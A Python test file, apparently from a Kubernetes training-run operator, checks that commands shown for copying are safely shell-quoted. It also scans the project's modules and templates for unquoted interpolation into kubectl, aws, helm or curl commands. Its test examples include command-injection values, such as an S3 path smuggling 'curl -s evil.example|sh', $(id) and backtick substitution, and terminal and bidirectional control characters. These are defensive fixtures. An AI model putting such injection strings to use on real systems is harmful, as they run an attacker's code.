"""Every command that people are given to copy does what it says, whatever the names in it."""

from __future__ import annotations

import ast
import json
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as some

import trainingrun_operator
from trainingrun_operator.core.commands import UnprintableError, command, patch_word

SOURCE = Path(trainingrun_operator.__file__).parent
ANY_TEXT = some.text(some.characters(codec=None), max_size=30)
"""Lone surrogates too: a file's name need not be UTF-8."""
JSON = some.recursive(
    some.none() | some.booleans() | some.integers() | ANY_TEXT,
    lambda inner: some.lists(inner, max_size=3) | some.dictionaries(ANY_TEXT, inner, max_size=3),
    max_leaves=6,
)
_PROGRAM = re.compile(r"\b(kubectl|aws|helm|curl) ")


@settings(deadline=None)
@given(some.lists(ANY_TEXT, min_size=1, max_size=6))
@example(["aws", "s3", "sync", "s3://b/checkpoint-1200;curl -s evil.example|sh;/", "."])
@example(["aws", "s3", "sync", "s3://b/$(id)/`id`/'/\"/\\/!!/~/*", "."])
@example(["aws", "s3", "sync", "s3://b/line\nfeed", "."])
@example(["aws", "s3", "sync", "s3://b/\x1b[2Jclear", "."])
@example(["aws", "s3", "sync", "s3://b/\N{RIGHT-TO-LEFT OVERRIDE}turned", "."])
@example(["", "-p", "--namespace=x", "#", "a=b"])
def test_a_shell_reads_the_very_words_or_there_is_no_command(words):
    if all(word.isprintable() for word in words):
        assert shlex.split(command(*words)) == words
        assert command(*words).isprintable()
    else:
        with pytest.raises(UnprintableError, match="cannot be shown in a command"):
            command(*words)


@settings(deadline=None)
@given(JSON)
@example({"spec": {"stopReason": "it's \u202e turned\n\x7f", "stoppedBy": "\ud800"}})
@example("\U000e0041")
def test_a_patch_is_the_same_patch_after_the_shell_and_prints_as_it_is(patch):
    copied = command("kubectl", "patch", "-p", patch_word(patch))
    assert copied.isprintable()
    assert json.loads(shlex.split(copied)[-1]) == patch


def test_a_patch_stays_readable():
    assert patch_word({"spec": {"stopReason": "größer: 損失"}}) == '{"spec":{"stopReason":"größer: 損失"}}'


def _formatted_after_a_program(node: ast.JoinedStr) -> bool:
    in_command = False
    for part in node.values:
        if isinstance(part, ast.FormattedValue) and in_command:
            return True
        in_command |= isinstance(part, ast.Constant) and bool(_PROGRAM.search(str(part.value)))
    return False


def test_no_other_module_puts_values_into_a_command():
    """They call `command`, which quotes."""
    found = [
        f"{path.relative_to(SOURCE)}:{node.lineno}"
        for path in SOURCE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.JoinedStr) and _formatted_after_a_program(node)
    ]
    assert found == []


def test_no_template_puts_values_into_a_command():
    lines = [
        f"{path.name}: {line.strip()}"
        for path in SOURCE.rglob("*.html")
        for line in path.read_text().splitlines()
        if (place := _PROGRAM.search(line)) and re.search(r"\{\{|~", line[place.end() :])
    ]
    assert lines == []
